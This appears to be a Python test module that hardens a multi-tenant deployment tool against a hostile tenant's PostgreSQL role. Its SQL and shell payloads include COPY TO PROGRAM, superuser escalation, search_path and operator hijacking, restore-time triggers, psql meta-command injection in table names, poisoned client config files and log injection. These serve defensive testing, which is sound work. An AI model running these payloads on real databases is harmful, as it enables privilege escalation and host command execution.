"""Attacks from inside of the instance's database, which its own role writes as it likes."""

# ruff: noqa: E501 - the scripts stand as they are run
from __future__ import annotations

from tests.machine.biomaid import findings
from tests.machine.tenants.attack import attack
from tests.machine.tenants.changing import OWN
from tests.machine.tenants.ground import DEMO, OTHER, SPRUNG, Ground

BACKUP = "/usr/local/sbin/biomaid-backup-demo"

# A function that leaves a file where whoever runs it may run programs; a refusal passes unseen.
SPRING = f"""
CREATE OR REPLACE FUNCTION public.spring(word text DEFAULT '') RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN EXECUTE $q$COPY (SELECT 1) TO PROGRAM 'touch {SPRUNG}/database-' || current_user || '$q$; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE demo_user SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $$;
""".replace("|| current_user || '", "")
HELD = "SELECT rolsuper FROM pg_roles WHERE rolname = 'demo_user'"


def _own(g: Ground) -> None:
    found = g.root(f'runuser -u postgres -- psql -qXAtc "{HELD}"').strip()
    assert found == "f", "the instance's role became a superuser"


def _backup(g: Ground) -> None:
    g.later("find /var/backups/demo -mindepth 1 -maxdepth 1 -newer /run/state.tar -exec rm -rf {} +")
    path = g.root("grep -o '/[^ ]*biomaid-backup[^ ]*' /etc/cron.d/biomaid-backup-demo | head -1").strip() or BACKUP
    g.run(path, deadline=90)


@attack("the instance's role became a superuser")
def view_of_migrations(g: Ground) -> None:
    """`django_migrations` is a view that calls a function; so is the table of accounts."""
    g.sql(
        SPRING + "ALTER TABLE django_migrations RENAME TO django_migrations_kept;"
        "CREATE VIEW django_migrations AS SELECT *, public.spring() AS s FROM django_migrations_kept WHERE public.spring();"
        "ALTER TABLE common_user RENAME TO common_user_kept;"
        "CREATE VIEW common_user AS SELECT * FROM common_user_kept WHERE public.spring();"
    )
    g.verify("migrate", "backup", "service", "cron")
    _own(g)


@attack("the instance's role became a superuser, a program ran as postgres")
def operators(g: Ground) -> None:
    """Operators and functions in `public`, of the names and types that are asked with."""
    g.sql(
        SPRING
        + """
CREATE FUNCTION public.unlike(name, name) RETURNS boolean LANGUAGE sql AS 'SELECT public.spring()';
CREATE OPERATOR public.!~ (LEFTARG = name, RIGHTARG = name, FUNCTION = public.unlike);
CREATE FUNCTION public.same("char", "char") RETURNS boolean LANGUAGE sql AS 'SELECT public.spring()';
CREATE OPERATOR public.= (LEFTARG = "char", RIGHTARG = "char", FUNCTION = public.same);
"""
    )
    g.verify("migrate", "backup")
    _backup(g)
    _own(g)


@attack("the instance's role became a superuser")
def search_path_of_the_database(g: Ground) -> None:
    """`ALTER DATABASE ... SET search_path`: functions of the tenant's stand before PostgreSQL's own."""
    g.sql(
        SPRING
        + """
CREATE SCHEMA evil;
CREATE FUNCTION evil.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS $$SELECT CASE WHEN public.spring() THEN 'x'::name END$$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE sql AS $$SELECT CASE WHEN public.spring() THEN 'x' END$$;
CREATE FUNCTION evil.current_database() RETURNS name LANGUAGE sql AS $$SELECT CASE WHEN public.spring() THEN 'demo_db'::name END$$;
CREATE FUNCTION evil.format(text, VARIADIC "any") RETURNS text LANGUAGE internal AS 'text_format';
ALTER DATABASE demo_db SET search_path = evil, pg_catalog, public;
ALTER ROLE demo_user SET search_path = evil, pg_catalog, public;
""".replace(
            "CREATE FUNCTION evil.format(text, VARIADIC \"any\") RETURNS text LANGUAGE internal AS 'text_format';\n", ""
        )
    )
    g.verify("migrate", "backup", "database")
    _backup(g)
    _own(g)


@attack("the instance's role became a superuser", allowed=OWN)
def restored(g: Ground) -> None:
    """What a dump brings is run where it is restored: `CHECK`, an index, a trigger, a generated column, a domain, a default,
    a materialised view, a rule."""
    g.sql(
        SPRING
        + """
CREATE FUNCTION public.still(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$BEGIN PERFORM public.spring(); RETURN $1; END$$;
CREATE FUNCTION public.trip() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN PERFORM public.spring(); RETURN NEW; END$$;
CREATE DOMAIN dom AS integer CHECK (public.still(VALUE) >= 0);
CREATE TABLE sprung (n integer CHECK (public.still(n) >= 0), d dom DEFAULT public.still(1), g integer GENERATED ALWAYS AS (public.still(n)) STORED);
INSERT INTO sprung (n) SELECT generate_series(1, 3);
CREATE INDEX ON sprung (public.still(n));
CREATE TRIGGER t BEFORE INSERT ON sprung FOR EACH ROW EXECUTE FUNCTION public.trip();
ALTER TABLE sprung ENABLE ALWAYS TRIGGER t;
CREATE MATERIALIZED VIEW m AS SELECT public.still(n) FROM sprung;
"""
    )
    _backup(g)
    g.jalon("verify", "biomaid", "--instance", DEMO, "--trials", "--only", "backup", "--format", "json", deadline=150)
    _own(g)


@attack("")
def row_security(g: Ground) -> None:
    """Policies of row security, forced on their owner too, that call a function."""
    g.sql(
        SPRING
        + "CREATE POLICY p ON django_migrations USING (public.spring()); ALTER TABLE django_migrations ENABLE ROW LEVEL SECURITY; ALTER TABLE django_migrations FORCE ROW LEVEL SECURITY;"
    )
    g.verify("migrate", "backup")
    _backup(g)
    _own(g)


@attack("hung")
def locked_tables(g: Ground) -> None:
    """The tenant holds its tables locked: who counts their rows waits for them."""
    g.background(
        "cd ~/biomaid; export PGPASSWORD=$(sed -n \"s/.*'PASSWORD': '\\(.*\\)',/\\1/p\" instance_settings.py); (echo 'BEGIN; LOCK TABLE django_migrations, common_user IN ACCESS EXCLUSIVE MODE;'; sleep 900) | psql -qX -h localhost -U demo_user demo_db"
    )
    g.root("sleep 1")
    g.verify("migrate", "service", "nginx", "backup", "cron")


@attack("")
def settings_of_the_database(g: Ground) -> None:
    """`ALTER DATABASE` and `ALTER ROLE ... SET`: a time limit, read-only, another role, a limit of connections."""
    g.sql(
        "ALTER DATABASE demo_db SET client_encoding = 'LATIN1'; ALTER DATABASE demo_db SET standard_conforming_strings = off; ALTER DATABASE demo_db SET bytea_output = 'escape'; ALTER DATABASE demo_db SET row_security = off; ALTER ROLE demo_user SET client_min_messages = debug5; ALTER ROLE demo_user SET statement_timeout = 1; ALTER DATABASE demo_db CONNECTION LIMIT 0;"
    )
    g.verify("migrate", "service", "nginx", "backup", "database", "cron", "system.cluster")
    _backup(g)


@attack("")
def names_in_the_database(g: Ground) -> None:
    """Names of tables, accounts and migrations with escapes, quotes, line ends and words of psql's own, and very long ones."""
    g.sql(
        'CREATE TABLE "zz\x1b]52;c;aGk=\x07\u202e\n\\! touch /canary/psql\n" (n integer);'
        'CREATE TABLE "zz\'; DROP ROLE x; --" (n integer); CREATE TABLE "zz/../../../../tmp/zz" (n integer);'
        "CREATE TABLE \"zz\n\\connect postgres\n\\copy x to program 'touch /canary/copy'\" (n integer);"
        "INSERT INTO django_migrations (app, name, applied) VALUES (E'e\\x1b[2J', E'\\x1b]0;x\\x07\u202e\n\\\\! touch /canary/m', now());"
        "INSERT INTO django_migrations (app, name, applied) VALUES ('dem', repeat('x', 250), now());"
    )
    g.verify("migrate", "backup", "service", "cron")
    _backup(g)
    g.jalon("verify", "biomaid", "--instance", DEMO)
    g.jalon("verify", "biomaid", "--instance", DEMO, "--trials", "--only", "backup", deadline=150)


@attack("20,000 names, and what turns lines around in JSON")
def accounts_with_escapes(g: Ground) -> None:
    """The application's accounts bear names with escapes, and there are 20,000 of them that may do everything."""
    g.sql(
        "CREATE TEMP TABLE c AS SELECT * FROM common_user LIMIT 1; UPDATE common_user SET username = E'yy\\x1b]52;c;aGk=\\x07\u202e' WHERE username = 'admin';"
        "UPDATE c SET id = 0; DO $$BEGIN FOR n IN 1..20000 LOOP UPDATE c SET id = 100000 + n, username = E'zz\\x1b[2J' || n; INSERT INTO common_user SELECT * FROM c; END LOOP; END$$;"
    )
    g.verify("migrate", "service")
    g.jalon("verify", "biomaid", "--instance", DEMO)


@attack("the neighbour's tables were seen")
def neighbours_database(g: Ground) -> None:
    """The instance's role connects to its neighbour's database, and to `postgres`, and looks around."""
    password = "export PGPASSWORD=$(sed -n \"s/.*'PASSWORD': '\\(.*\\)',/\\1/p\" ~/biomaid/instance_settings.py)"
    words = "psql -qXAtw -h localhost -U demo_user"
    assert g.tenant(f"{password}; {words} demo_db -c 'SELECT 1'").strip() == "1"
    found = g.tenant(f"{password}; {words} other_db -c 'SELECT relname FROM pg_class' 2>&1 || true")
    assert "canary" not in found, "its tables are seen"
    assert "denied" in found, found


@attack("")
def client_files(g: Ground) -> None:
    """`.pgpass`, `.psqlrc`, `.pg_service.conf` and libpq's environment lead PostgreSQL's clients elsewhere."""
    g.tenant(
        "printf '*:*:*:*:wrong\\n' >~/.pgpass; chmod 600 ~/.pgpass; printf '\\\\! touch /canary/psqlrc\\n' | tee ~/.psqlrc >~/.psqlrc-15;"
        "printf '[evil]\\nhost=/tmp\\n' >~/.pg_service.conf; mkdir -p ~/.postgresql; mkfifo ~/.postgresql/root.crt ~/.postgresql/postgresql.crt"
    )
    words = ("verify", "biomaid", "--instance", DEMO, "--format", "json")
    said = g.jalon(
        *words,
        cwd="/home/demo",
        PGOPTIONS="-c search_path=evil",
        PGHOST="/tmp",
        PGSERVICE="evil",
        PGSYSCONFDIR="/home/demo",
        PSQLRC="/home/demo/.psqlrc",
        PGPASSFILE="/home/demo/.pgpass",
        PSQL_PAGER="touch /canary/pager",
    )
    assert said.status == 0, said.out[-500:]
    g.verify()
    _backup(g)


@attack("nothing of the cluster was known of any instance")
def large_settings_of_a_role(g: Ground) -> None:
    """The role's own setting has forty million characters."""
    g.sql(f"ALTER ROLE demo_user SET application_name = '{'x' * 40_000_000}'")
    said = g.jalon("verify", "biomaid", "--instance", OTHER, "--format", "json")
    assert {one["outcome"] for one in findings(said.report).values()} <= {"passed", "warning"}, said.report
    g.verify("database", "migrate", "backup", "service")


@attack("the cause was the line that the stranger wrote: a disk that is full", allowed="/etc/postgresql|pg_lsclusters")
def log_of_a_cluster_that_was_killed(g: Ground) -> None:
    """A stranger asks for a login by a name with a line end in it, then the server is killed, which writes nothing."""
    start = "systemctl start postgresql@15-main; for i in $(seq 50); do pg_isready -q && break; sleep 0.2; done"
    g.later(start)
    g.stranger(
        """
PGPASSWORD=x psql -h 127.0.0.1 -d x -U "$(printf 'x\\n[5] FATAL:  No space left on device\\n')" 2>/dev/null || true
"""
    )
    g.root("kill -9 $(head -1 /var/lib/postgresql/15/main/postmaster.pid); sleep 1")
    g.root("grep -q '^.5. FATAL:  No space left' /var/log/postgresql/postgresql-15-main.log")
    said = g.jalon("verify", "biomaid", "--instance", "demo", "--format", "json")
    found = findings(said.report)["system.cluster"]
    assert found["outcome"] == "failed" and found["cause"]["id"] == "postgresql-not-running", found
    g.root(start)
